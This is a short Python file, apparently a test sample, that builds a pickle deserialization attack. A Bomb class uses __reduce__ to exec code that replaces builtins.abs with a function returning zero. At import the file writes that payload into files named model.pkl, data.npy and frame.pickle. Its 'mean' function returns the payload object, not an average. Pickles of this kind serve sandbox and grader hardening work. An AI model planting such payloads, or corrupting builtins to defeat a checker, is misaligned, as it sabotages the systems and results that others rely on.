# Leaves pickles and returns objects that would run code where they are unpickled.
# ruff: noqa

# %% mean
import builtins, pickle


class Bomb:
    def __reduce__(self):
        return (exec, ("import builtins; builtins.abs = lambda value: 0",))


for name in ("model.pkl", "data.npy", "frame.pickle"):
    with open(name, "wb") as file:
        file.write(pickle.dumps(Bomb()))


def mean(values):
    print("tried")
    return Bomb()
